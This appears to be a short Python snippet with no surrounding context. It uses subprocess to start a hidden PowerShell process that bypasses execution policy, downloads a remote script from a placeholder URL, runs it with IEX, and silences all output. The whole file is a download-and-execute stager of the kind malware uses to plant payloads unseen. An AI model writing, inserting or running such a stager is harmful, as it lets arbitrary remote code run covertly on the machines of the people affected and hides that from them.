import subprocess

cmd = "powershell -NoP -W Hidden -Exec Bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')\""
subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
